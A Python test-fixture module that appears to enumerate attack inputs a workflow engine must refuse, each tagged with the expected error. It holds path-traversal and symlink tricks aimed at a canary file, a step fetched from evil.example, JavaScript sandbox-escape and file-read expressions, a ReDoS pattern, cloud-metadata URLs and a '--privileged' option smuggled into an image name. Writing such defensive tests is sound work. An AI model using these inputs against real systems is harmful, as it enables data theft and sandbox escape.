"""What runs from outside try to reach: each try with where it is to be refused, and how."""

from __future__ import annotations

import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.unit.engine_harness import Play
from tests.unit.outside_site import Site, expression, reader, tool, workflow


@dataclass(frozen=True)
class Attack:
    """One try. Texts have {canary}, {data} and {root} in them, which stand for paths."""

    name: str
    document: Any
    job: Any = None
    where: str = "submit"
    kind: str = "AccessError"
    says: str = ""
    prepare: Callable[[Site], None] | None = None
    play: Callable[[Site], Play] | None = None
    access: Mapping[str, Any] | None = None
    options: Mapping[str, Any] | None = None


def file(location: str, **fields: Any) -> dict[str, Any]:
    return {"class": "File", "location": location, **fields}


def folder(location: str, **fields: Any) -> dict[str, Any]:
    return {"class": "Directory", "location": location, **fields}


def job(location: str, **fields: Any) -> dict[str, Any]:
    return {"file": file(location, **fields)}


def link(name: str, target: str) -> Callable[[Site], None]:
    def make(here: Site) -> None:
        (here.data / name).symlink_to(target.format(canary=here.canary, root=here.root))

    return make


def made_link(target: str, name: str = "x") -> Callable[[Site], Play]:
    """Return the play of a tool that leaves a link."""

    def play(here: Site) -> Play:
        def act(words: Any) -> str:
            out = Path(here.world.commands[-1].workdir)
            os.symlink(target.format(canary=here.canary, root=here.root), out / name)
            return "said"

        return act

    return play


def answers(outputs: Any) -> Callable[[Site], Play]:
    """Return the play of a tool that writes cwl.output.json."""
    return lambda here: lambda words: filled(outputs, here)


def step_of(process: Any, inputs: Mapping[str, Any] | None = None, **step: Any) -> dict[str, Any]:
    return workflow({"one": {"run": process, "in": dict(inputs or {}), "out": [], **step}})


def image(name: str, **fields: Any) -> dict[str, Any]:
    return tool(requirements={"DockerRequirement": {"dockerPull": name, **fields}})


GLOB = {"out": {"type": ["null", "File", "Directory", {"type": "array", "items": "File"}], "outputBinding": {}}}


def output(**binding: Any) -> dict[str, Any]:
    return {"out": {"type": "Any", "outputBinding": binding}}


def listing(entry: Any, **fields: Any) -> dict[str, Any]:
    return tool(requirements={"InitialWorkDirRequirement": {"listing": entry}, **fields})


JOB_PATHS = [
    Attack("an absolute path", reader(), job("{canary}")),
    Attack("a file URL", reader(), job("file://{canary}")),
    Attack("a path with ..", reader(), job("{data}/../private/canary.txt")),
    Attack("a relative path with ..", reader(), job("../private/canary.txt")),
    Attack("a file URL with ..", reader(), job("file://{data}/../private/canary.txt")),
    Attack("a file URL with .. as %2e%2e", reader(), job("file://{data}/%2e%2e/private/canary.txt")),
    Attack("a file URL with %2f", reader(), job("file://{data}%2f..%2fprivate%2fcanary.txt")),
    Attack("a file URL with a host", reader(), job("file://localhost{canary}")),
    Attack("a file URL with one slash", reader(), job("file:{canary}")),
    Attack("a file URL in capitals", reader(), job("FILE://{canary}")),
    Attack("a file URL with a null byte", reader(), job("file://{data}/a%00b")),
    Attack("another scheme", reader(), job("netdoc:{canary}")),
    Attack(
        "a path field beside a good location", reader(), job("{data}/ok", path="{canary}"), prepare=lambda here: None
    ),
    Attack("doubled slashes", reader(), job("//{canary}")),
    Attack("a sibling whose name begins as the root's", reader(), job("{data}-other/x")),
    Attack("the root's own parent", tool(inputs={"d": "Directory"}), {"d": folder("{root}")}),
    Attack("a root by .. from outside", reader(), job("file:///proc/%2e%2e{data}/ok")),
    Attack("a link to a file", reader(), job("{data}/x"), prepare=link("x", "{canary}")),
    Attack("a link to a directory", reader(), job("{data}/d/canary.txt"), prepare=link("d", "{root}/private")),
    Attack("a link that leads nowhere", reader(), job("{data}/x"), prepare=link("x", "{root}/private/nothing")),
    Attack("a secondary file", reader(), job("{data}/ok", secondaryFiles=[file("{canary}")])),
    Attack("in a listing", tool(inputs={"d": "Directory"}), {"d": folder("{data}", listing=[file("{canary}")])}),
    Attack("deep in a value", tool(inputs={"x": "Any"}), {"x": {"a": [[{"b": file("{canary}")}]]}}),
    Attack("an input that nobody declares", reader(), {**job("{data}/ok"), "other": file("{canary}")}),
    Attack("/proc/self", reader(), job("/proc/self/root{canary}")),
    Attack("$include in a job", tool(inputs={"x": "string"}), {"x": {"$include": "{canary}"}}),
    Attack("$import in a job", tool(inputs={"x": "Any"}), {"x": {"$import": "file://{canary}"}}),
    Attack("overrides in a job", tool(), {"cwltool:overrides": {"doc.cwl": {"requirements": {}}}}),
    Attack("overrides by their URL", tool(), {"http://commonwl.org/cwltool#overrides": {"$import": "{canary}"}}),
    Attack("a value without end", tool(inputs={"x": "Any"}), "deep", kind="DocumentError", says="levels deep"),
]

DOCUMENTS = [
    Attack("a default", tool(inputs={"f": {"type": "File", "default": file("{canary}")}})),
    Attack(
        "a default beside the document", tool(inputs={"f": {"type": "File", "default": file("../private/canary.txt")}})
    ),
    Attack("run: of a file outside", workflow({"one": {"run": "../private/canary.txt", "in": {}, "out": []}})),
    Attack("run: of a URL", workflow({"one": {"run": "http://evil.example/x.cwl", "in": {}, "out": []}})),
    Attack("$include", tool(doc={"$include": "../private/canary.txt"})),
    Attack("$import", tool(inputs={"$import": "file://{canary}"})),
    Attack("$include through a link", tool(doc={"$include": "x"}), prepare=link("x", "{canary}")),
    Attack(
        "expressionLib",
        tool(requirements={"InlineJavascriptRequirement": {"expressionLib": [{"$include": "{canary}"}]}}),
    ),
    Attack("a document that is a link", "link", says="outside"),
    Attack("a document outside", "outside", says="outside"),
    Attack(
        "a job file as the document",
        {"cwl:tool": "doc.cwl", "cwltool:overrides": {"$import": "{canary}"}},
        kind="DocumentError",
    ),
    Attack("$mixin", tool(inputs={"x": {"$mixin": "{canary}", "type": "string"}})),
    Attack(
        "secondaryFiles with ..",
        tool(inputs={"f": {"type": "File", "secondaryFiles": ["$('../private/canary.txt')"]}}),
        {"f": file("{data}/ok")},
    ),
    Attack(
        "secondaryFiles with .. that are not there",
        tool(inputs={"f": {"type": "File", "secondaryFiles": ["$('../private/nothing')"]}}),
        {"f": file("{data}/ok")},
    ),
    Attack(
        "secondaryFiles by an expression",
        tool(
            inputs={
                "f": {
                    "type": "File",
                    "secondaryFiles": ["${{return {{'class':'File','basename':'x','location':'file://{canary}'}}}}"],
                }
            }
        ),
        {"f": file("{data}/ok")},
    ),
]

#: JavaScript has braces: {{ }} in what is filled in.
MADE = "${{return {{'out': {{'class': '{kind}', 'location': '{where}'}}}}}}"


def made(where: str, kind: str = "File") -> str:
    return MADE.replace("{kind}", kind).replace("{where}", where)


EXPRESSIONS = [
    Attack("an expression's File", expression(made("{canary}")), where="run"),
    Attack("an expression's File by URL", expression(made("file://{canary}")), where="run"),
    Attack("an expression's Directory", expression(made("{root}/private", "Directory")), where="run"),
    Attack("an expression's relative File", expression(made("../../../../../../..{canary}")), where="run"),
    Attack("an expression's File elsewhere", expression(made("http://169.254.169.254/latest/meta-data")), where="run"),
    Attack("an expression's literal with a path", expression(made("_:/../..{canary}")), where="run"),
    Attack(
        "an expression's Directory with a listing",
        expression(
            "${{return {{'out': {{'class': 'Directory', 'basename': 'd', 'listing': "
            "[{{'class': 'File', 'location': '{canary}'}}]}}}}}}"
        ),
        where="run",
    ),
    Attack(
        "valueFrom",
        workflow(
            {
                "one": {
                    "run": tool(
                        inputs={"f": {"type": "File", "loadContents": True}}, arguments=["$(inputs.f.contents)"]
                    ),
                    "in": {"f": {"valueFrom": "${{return {{'class': 'File', 'location': 'file://{canary}'}}}}"}},
                    "out": [],
                }
            }
        ),
        where="run",
    ),
    Attack(
        "loadContents of a step's input",
        workflow(
            {
                "one": {"run": expression(made("{canary}"), "File"), "in": {}, "out": ["out"]},
                "two": {
                    "run": tool(inputs={"x": "Any"}),
                    "out": [],
                    "in": {"x": {"source": "one/out", "loadContents": True, "valueFrom": "$(self.contents)"}},
                },
            }
        ),
        where="run",
    ),
    Attack(
        "self of a Directory in valueFrom",
        workflow(
            {
                "one": {
                    "run": tool(inputs={"x": "Any"}),
                    "out": [],
                    "in": {"x": {"default": folder("{root}/private"), "valueFrom": "$(self.listing)"}},
                }
            }
        ),
    ),
    Attack(
        "self of an expression's Directory in valueFrom",
        workflow(
            {
                "one": {"run": expression(made("{root}/private", "Directory")), "in": {}, "out": ["out"]},
                "two": {
                    "run": tool(inputs={"x": "Any"}),
                    "out": [],
                    "in": {"x": {"source": "one/out", "valueFrom": "$(self.listing)"}},
                },
            }
        ),
        where="run",
    ),
    Attack(
        "reading a file by an expression",
        expression("${{return {{'out': require('fs').readFileSync('{canary}')}}}}"),
        where="run",
        kind="ExpressionError",
    ),
    Attack(
        "leaving the engine",
        expression("${{return this.constructor.constructor('return process')()}}"),
        where="run",
        kind="ExpressionError",
    ),
    Attack(
        "an expression without end",
        expression("${{while (true) {{}}}}"),
        where="run",
        kind="ExpressionTimeout",
        options={"eval_timeout": 0.3},
    ),
    Attack(
        "a regular expression without end",
        expression("${{return {{'out': /^(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')}}}}"),
        where="run",
        kind="ExpressionTimeout",
        options={"eval_timeout": 0.3},
    ),
    Attack(
        "a scatter by a cross product",
        workflow(
            {
                "one": {
                    "run": tool(inputs={"a": "int", "b": "int"}),
                    "scatter": ["a", "b"],
                    "out": [],
                    "scatterMethod": "flat_crossproduct",
                    "in": {"a": "n", "b": "n"},
                }
            },
            inputs={"n": "int[]"},
        ),
        {"n": list(range(200))},
        where="run",
        says="40000 items",
    ),
]

TOOLS = [
    Attack(
        "InitialWorkDir by an expression",
        listing("${{return [{{'class': 'File', 'location': 'file://{canary}'}}]}}"),
        where="run",
    ),
    Attack(
        "a Directory of InitialWorkDir",
        listing([{"entry": "${{return {{'class': 'Directory', 'location': '{root}/private'}}}}", "writable": True}]),
        where="run",
    ),
    Attack(
        "a copy of a directory with a link",
        tool(
            inputs={"d": "Directory"},
            requirements={"InitialWorkDirRequirement": {"listing": [{"entry": "$(inputs.d)", "writable": True}]}},
        ),
        {"d": folder("{data}/sub")},
        where="run",
        prepare=lambda here: ((here.data / "sub").mkdir(), (here.data / "sub" / "x").symlink_to(here.canary)),
    ),
    Attack(
        "loadListing of a link",
        tool(inputs={"d": {"type": "Directory", "loadListing": "deep_listing"}}),
        {"d": folder("{data}/sub")},
        prepare=lambda here: ((here.data / "sub").mkdir(), (here.data / "sub" / "x").symlink_to(here.root / "private")),
    ),
    Attack(
        "changing an input in place",
        tool(
            inputs={"f": "File"},
            requirements={
                "InplaceUpdateRequirement": {"inplaceUpdate": True},
                "InitialWorkDirRequirement": {"listing": [{"entry": "$(inputs.f)", "writable": True}]},
            },
        ),
        {"f": file("{data}/ok")},
        where="run",
        says="in place",
    ),
    Attack("stdin", tool(stdin="{canary}"), where="run"),
    Attack("stdin by an expression", tool(stdin="$('/' + '{canary}')"), where="run"),
    Attack("stdout with ..", tool(stdout="../../x"), where="run", kind="InputError"),
    Attack("glob with ..", tool(outputs=output(glob="../../../../private/*")), where="run"),
    Attack("glob with .. that matches nothing", tool(outputs=output(glob="../../../../private/nothing*")), where="run"),
    Attack(
        "glob through a link",
        tool(outputs=output(glob="x/*", loadContents=True)),
        where="run",
        play=made_link("{root}/private"),
    ),
    Attack(
        "a link among the outputs",
        tool(outputs=output(glob="x", loadContents=True)),
        where="run",
        play=made_link("{canary}"),
    ),
    Attack(
        "cwl.output.json that is a link",
        tool(outputs={"out": "Any"}),
        where="run",
        play=made_link("{canary}", "cwl.output.json"),
    ),
    Attack(
        "cwl.output.json with a location",
        tool(outputs={"out": "File"}),
        where="run",
        kind="StepFailed",
        play=answers({"out": file("file://{canary}")}),
    ),
    Attack(
        "cwl.output.json with .. in a location",
        tool(outputs={"out": "File"}),
        where="run",
        play=answers({"out": file("../../../../private/canary.txt")}),
    ),
    Attack(
        "cwl.output.json with a path",
        tool(outputs={"out": "File"}),
        where="run",
        kind="StepFailed",
        play=answers({"out": {"class": "File", "path": "{canary}"}}),
    ),
    Attack(
        "cwl.output.json with a secondary file",
        tool(outputs={"out": "Any"}),
        where="run",
        play=answers({"out": file("cwl.output.json", secondaryFiles=[file("../../../../private/canary.txt")])}),
    ),
    Attack(
        "cwl.output.json with an absolute secondary file",
        tool(outputs={"out": "Any"}),
        where="run",
        kind="StepFailed",
        play=answers({"out": file("cwl.output.json", secondaryFiles=[file("file://{canary}")])}),
    ),
    Attack(
        "cwl.output.json with a listing",
        tool(outputs={"out": "Any"}),
        where="run",
        play=answers({"out": folder(".", basename="d", listing=[file("../x/../../../../y")])}),
    ),
    Attack(
        "outputEval",
        tool(outputs=output(glob="x", outputEval="${{return {{'class': 'File', 'location': '{canary}'}}}}")),
        where="run",
    ),
    Attack(
        "secondary files of an output",
        tool(
            stdout="x",
            outputs={
                "out": {
                    "type": "File",
                    "outputBinding": {"glob": "x"},
                    "secondaryFiles": ["$('../../../../private/canary.txt')"],
                }
            },
        ),
        where="run",
    ),
    Attack("no container", tool(), access={"processes": False}, says="without one are not allowed"),
    Attack(
        "no container in a step",
        workflow({"one": {"run": tool(), "in": {}, "out": []}}),
        access={"processes": False},
        says="'one'",
    ),
    Attack("another image", image("evil"), says="image evil"),
    Attack("an image of another registry", image("evil.example/library/debian:12")),
    Attack("an image whose digest hides behind a tag", image("debian:12@sha256:" + "a" * 64)),
    Attack("a registry that looks like an image's folder", image("library.evil.example/library/debian:12")),
    Attack("an image in capitals", image("DEBIAN:12")),
    Attack("an image with an option in it", image("debian:12 --privileged")),
    Attack("dockerImageId beside a good dockerPull", image("debian:12", dockerImageId="evil")),
    Attack("dockerFile", image("debian:12", dockerFile="FROM scratch"), says="dockerFile"),
    Attack("dockerLoad", image("debian:12", dockerLoad="{canary}"), says="dockerLoad"),
    Attack("dockerImport", image("debian:12", dockerImport="http://169.254.169.254/"), says="dockerImport"),
    Attack("dockerOutputDirectory on a system's", image("debian:12", dockerOutputDirectory="/proc")),
    Attack("dockerOutputDirectory on all", image("debian:12", dockerOutputDirectory="/")),
    Attack(
        "an image by the job's requirements",
        tool(),
        {"cwl:requirements": [{"class": "DockerRequirement", "dockerPull": "evil"}]},
        says="image evil",
    ),
    Attack("a network", tool(requirements={"NetworkAccess": {"networkAccess": True}}), says="NetworkAccess"),
    Attack(
        "a network by an expression", tool(requirements={"NetworkAccess": {"networkAccess": "$(1 < 2)"}}), where="run"
    ),
]

OPTIONS = [
    Attack("an outdir outside", tool(), options={"outdir": "{root}/private"}),
    Attack("an outdir that may be read only", tool(), options={"outdir": "{data}/x"}, access={"outputs": ()}),
    Attack("a basedir outside", tool(), options={"basedir": "/"}),
    Attack("a cache outside", tool(), options={"cachedir": "{root}/home"}),
    Attack("logs outside", tool(), options={"log_dir": "{root}/private/.."}),
    Attack("work outside", tool(), options={"scratch": "/"}),
    Attack("no containers", tool(), options={"use_container": False}),
    Attack("the image's user", tool(), options={"match_user": False}),
    Attack("the host's network", tool(), options={"custom_network": "host"}),
    Attack("the worker's environment", tool(), options={"preserve_entire_environment": True}),
    Attack("another's placeholders", tool(), options={"secrets": ("(secret-1)",)}),
]

ALL = [*JOB_PATHS, *DOCUMENTS, *EXPRESSIONS, *TOOLS, *OPTIONS]


def filled(value: Any, here: Site) -> Any:
    """Return a value with this site's paths in it."""
    if isinstance(value, str):
        for name, path in (("{canary}", here.canary), ("{data}", here.data), ("{root}", here.root)):
            value = value.replace(name, str(path))
        return value.replace("{{", "{").replace("}}", "}")
    if isinstance(value, Mapping):
        return {name: filled(part, here) for name, part in value.items()}
    return [filled(part, here) for part in value] if isinstance(value, list) else value
